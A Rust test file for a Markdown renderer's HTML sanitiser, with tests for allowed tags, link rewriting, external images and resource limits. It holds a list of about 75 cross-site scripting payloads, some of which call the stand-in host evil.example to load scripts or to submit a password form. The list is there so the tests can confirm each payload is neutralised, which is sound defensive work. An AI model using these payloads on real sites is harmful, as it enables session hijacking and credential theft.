//! What comes out of documents, honest ones and others.

use tessera_service::repository::browse::GitPath;

use super::{Base, render};

fn base(folder: &str) -> Base {
    let path = |text: &str| GitPath::new(text.as_bytes()).unwrap();
    Base { project: "/group/app".to_owned(), reference: path("feature/x"), folder: path(folder) }
}

fn html(text: &str) -> String {
    render(text, &base("docs")).html
}

/// Elements that come out.
const TAGS: &str = "p a img h1 h2 h3 h4 h5 h6 ul ol li input em strong del \
    code pre blockquote table thead tbody tr th td br hr sup section div span kbd";
/// Attributes whose value is free.
const ATTRIBUTES: &str = "alt title rel class start align checked disabled type \
    loading aria-label data-footnotes data-footnote-ref data-footnote-backref data-footnote-backref-idx data-math-style data-meta";

/// Takes HTML apart as strictly as it is written here; whatever else it holds is a failure.
fn check(html: &str, source: &str) {
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        rest = &rest[start + 1..];
        let end = rest.find('>').unwrap_or_else(|| panic!("open tag in {html:?} of {source:?}"));
        let tag = rest[..end].trim_start_matches('/').trim_end_matches([' ', '/']);
        rest = &rest[end + 1..];
        let (name, mut attributes) = tag.split_once(' ').unwrap_or((tag, ""));
        assert!(TAGS.split(' ').any(|tag| tag == name), "{name} in {html:?} of {source:?}");
        while !attributes.is_empty() {
            attributes = attributes.trim_start();
            let until = attributes.find(['=', ' ']).unwrap_or(attributes.len());
            let (attribute, after) = attributes.split_at(until);
            let (value, after) = match after.strip_prefix("=\"") {
                Some(after) => after.split_once('"').unwrap_or_else(|| panic!("open value in {html:?}")),
                None => ("", after),
            };
            attributes = after;
            assert!(!value.contains('<'), "{value} in {html:?}");
            match attribute {
                "href" => {
                    let inside = value.starts_with('#') || value.starts_with("/group/app/-/");
                    let outside = ["http://", "https://", "mailto:", "http:", "https:", "HTTP", "hTTp"]
                        .iter()
                        .any(|scheme| value.starts_with(scheme));
                    assert!(inside || outside, "{value} in {html:?} of {source:?}");
                }
                "src" => assert!(value.starts_with("/group/app/-/raw/"), "{value} in {html:?} of {source:?}"),
                "id" => assert!(value.starts_with("user-content-") || value.starts_with("fn"), "{value}"),
                known if ATTRIBUTES.split(' ').any(|one| one == known) => {}
                other => panic!("{other} in {html:?} of {source:?}"),
            }
        }
    }
    let between = html.split('<').map(|piece| piece.split('>').skip(1).collect::<Vec<_>>());
    assert!(between.into_iter().all(|pieces| pieces.len() <= 1), "loose > in {html:?}");
}

/// What people have tried elsewhere.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "a <script>alert(1)</script> b",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></p><style><img src onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<form action=//evil.example><input name=password><button>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=x><embed src=x>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    "<x onclick=alert(1)>click",
    "<img alt=\"a>b\" src=x onerror=alert(1)>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](&#106;avascript&colon;alert(1))",
    "[x](<  javascript:alert(1)>)",
    "[x](javascript&#58;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](view-source:javascript:alert(1))",
    "[x](x:javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,AAAA)",
    "![\"onerror=\"alert(1)](x.png)",
    "![x](x.png \"t\\\" onerror=alert(1) x=\\\"\")",
    "![x](\"onerror=alert(1))",
    "[x](a.md \"t\\\" onmouseover=alert(1) x=\\\"\")",
    "[x](<a\" onmouseover=\"alert(1)>)",
    "[x](https://e.example/\"onmouseover=alert(1)//)",
    "[x](https://e.example/'onmouseover=alert(1)//)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[a [b](https://b.example) c](https://c.example)",
    "![a [b](javascript:alert(1)) c](https://c.example/x.png)",
    "http://e.example/\"><script>alert(1)</script>",
    "www.e.example/\"onclick=alert(1)",
    "\"onclick=alert(1)@e.example",
    "# <img src=x onerror=alert(1)>",
    "# \" onclick=alert(1) x=\"",
    "# location\n\n# forms\n\n<a name=location id=location>",
    "```\" onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "```x\" onclick=\"alert(1)\nx\n```",
    "```math\n</code><script>\n```",
    "`</code><script>alert(1)</script>`",
    "| a |\n|---|\n| <script>alert(1)</script> |\n| [x](javascript:alert(1)) |",
    "- [x] <script>alert(1)</script>\n- [ ] [y](javascript:alert(1))",
    "a[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: <script>alert(1)</script>",
    "a[^<script>]\n\n[^<script>]: b",
    "---\ntitle: <script>alert(1)</script>\n---\n\ntext",
    "\u{0}<script>\u{0}alert(1)</script>",
    "\u{feff}<script>alert(1)</script>",
    "[x](\\\\evil.example)\n[y](/\\evil.example)\n[z](////evil.example)",
];

#[test]
fn attacks_come_to_nothing() {
    assert!(VECTORS.len() > 70);
    for source in VECTORS {
        let out = html(source);
        check(&out, source);
        assert!(!out.contains("javascript:") || !out.contains("href=\"javascript"), "{out}");
    }
}

#[test]
fn raw_html_leaves_its_text() {
    for (source, expected) in [
        ("<h1 align=\"center\">Title</h1>", "<p>Title</p>\n"),
        ("a<br>b <b>c</b> <!-- no --> d", "<p>a<br>\nb c  d</p>\n"),
        ("<!-- hidden -->", ""),
        ("A Vec<T> and a <b>word</b>", "<p>A Vec&lt;T&gt; and a word</p>\n"),
        ("<details>\n<summary>More</summary>\n\n*text*\n\n</details>", "<p>More</p>\n<p><em>text</em></p>\n"),
        ("<script>\nalert(1)\n</script>\n\ntext", "<p>text</p>\n"),
        ("<p>a &amp; b &lt;c&gt;</p>", "<p>a &amp; b &lt;c&gt;</p>\n"),
    ] {
        assert_eq!(html(source), expected, "{source}");
    }
}

#[test]
fn links_stay_in_the_project() {
    let blob = "/group/app/-/blob/feature/x";
    for (link, expected) in [
        ("guide.md", format!("{blob}/docs/guide.md")),
        ("./a b.md", format!("{blob}/docs/a%20b.md")),
        ("a%20b.md", format!("{blob}/docs/a%20b.md")),
        ("../README.md#usage", format!("{blob}/README.md#user-content-usage")),
        ("/src/lib.rs#L10", format!("{blob}/src/lib.rs#L10")),
        ("sub/../guide.md?plain=1", format!("{blob}/docs/guide.md")),
        ("größe/", format!("{blob}/docs/gr%C3%B6%C3%9Fe")),
        ("%FF", format!("{blob}/docs/%FF")),
        ("a\"b'c&d<e>", format!("{blob}/docs/a%22b%27c%26d%3Ce%3E")),
        ("..", "/group/app/-/tree/feature/x".to_owned()),
        ("/", "/group/app/-/tree/feature/x".to_owned()),
        ("#Other-one_2", "#user-content-Other-one_2".to_owned()),
    ] {
        let out = html(&format!("[x](<{}>)", link.replace('<', "\\<").replace('>', "\\>")));
        assert_eq!(out, format!("<p><a href=\"{expected}\">x</a></p>\n"), "{link}");
    }
    for nowhere in ["../../x", "/../x", "javascript:x", "a:b", "x\u{7f}:y", "%00", "", "#", "?a=b", "//"] {
        assert_eq!(html(&format!("[x](<{nowhere}>)")), "<p>x</p>\n", "{nowhere:?}");
    }
    let outside = "rel=\"nofollow noopener noreferrer\"";
    for (link, expected) in [
        ("https://e.example/?a=b&c", "https://e.example/?a=b&amp;c"),
        ("HTTP://e.example", "HTTP://e.example"),
        ("mailto:ann@e.example", "mailto:ann@e.example"),
        ("//e.example/x", "https://e.example/x"),
        ("/\\e.example/x", "https://e.example/x"),
    ] {
        let out = html(&format!("[x](<{}>)", link.replace('\\', "\\\\")));
        assert_eq!(out, format!("<p><a href=\"{expected}\" {outside}>x</a></p>\n"), "{link}");
    }
    assert_eq!(
        html("see www.e.example now"),
        format!("<p>see <a href=\"http://www.e.example\" {outside}>www.e.example</a> now</p>\n")
    );
}

#[test]
fn images_of_other_hosts_are_links() {
    let raw = "/group/app/-/raw/feature/x/docs";
    let outside = "rel=\"nofollow noopener noreferrer\"";
    for (source, expected) in [
        (
            "![a *b*](x.png \"T\")",
            format!("<img loading=\"lazy\" src=\"{raw}/x.png\" alt=\"a b\" title=\"T\">"),
        ),
        ("![](x.png)", format!("<img loading=\"lazy\" src=\"{raw}/x.png\" alt=\"\">")),
        (
            "![logo](https://e.example/x.png)",
            format!("<a href=\"https://e.example/x.png\" {outside}>logo</a>"),
        ),
        ("![](https://e.example/x.png)", format!("<a href=\"https://e.example/x.png\" {outside}>Image</a>")),
        (
            "[![build](https://e.example/b.svg)](https://ci.example)",
            format!("<a href=\"https://ci.example\" {outside}>build</a>"),
        ),
        (
            "[![](b.svg)](https://ci.example)",
            format!(
                "<a href=\"https://ci.example\" {outside}><img loading=\"lazy\" src=\"{raw}/b.svg\" alt=\"Image\"></a>"
            ),
        ),
        ("![x](data:image/png;base64,AA)", "x".to_owned()),
    ] {
        assert_eq!(html(source), format!("<p>{expected}</p>\n"), "{source}");
    }
}

#[test]
fn what_github_adds() {
    assert_eq!(
        html("# One\n\n## One *two*\n\n~~gone~~"),
        "<h2 id=\"user-content-one\">One</h2>\n<h3 id=\"user-content-one-two\">One <em>two</em></h3>\n<p><del>gone</del></p>\n"
    );
    assert_eq!(
        html("- [x] a\n- [ ] b"),
        "<ul>\n<li class=\"task\"><input type=\"checkbox\" disabled checked aria-label=\"Done\"> a</li>\n\
         <li class=\"task\"><input type=\"checkbox\" disabled aria-label=\"To do\"> b</li>\n</ul>\n"
    );
    let table = html("| a | b |\n|:--|--:|\n| 1 | 2 |");
    assert!(
        table.contains("<th align=\"left\">a</th>") && table.contains("<td align=\"right\">2</td>"),
        "{table}"
    );
    let notes = html("a[^1]\n\n[^1]: note");
    assert!(notes.contains("href=\"#fn-1\"") && notes.contains("id=\"fn-1\""), "{notes}");
    assert_eq!(html("---\ntitle: x\n---\n\ntext"), "<p>text</p>\n");
    assert_eq!(
        html("```rust\nlet a = 1 < 2;\n```"),
        "<pre><code class=\"language-rust\">let a = 1 &lt; 2;\n</code></pre>\n"
    );
}

#[test]
fn nothing_is_too_much() {
    for piece in [
        ">", "[", "![", "*a_ ", "**", "(", "- ", "  - a\n", "`", "~~", "<", "<a", "<!--", "&", "\\", "[a](",
        "[^1]", "| ", "# a\n", "1. ", "http://", "a@b.c ", "> - ", "![](x)", "[x](y) ", "<b>", "</b>",
        "<script>", "\n|-|\n", "[^a]: ", "_", "\u{0}", "\r", "\t",
    ] {
        let source = piece.repeat(60_000 / piece.len());
        let out = render(&source, &base(""));
        assert!(!out.cut);
        check(&out.html, piece);
    }
    let long = format!("{}ü", "x".repeat((1 << 20) - 1));
    let out = render(&long, &base(""));
    assert!(out.cut && out.html.len() < (1 << 20) + 20);
    // One long address, named again and again: what comes out is bounded, too.
    let many = format!("[a]: <{}>\n\n{}", "x".repeat(2000), "[a] ".repeat(200_000));
    let out = render(&many, &base(""));
    assert!(out.html.len() <= super::WRITTEN, "{}", out.html.len());
    check(&out.html, "many");
}
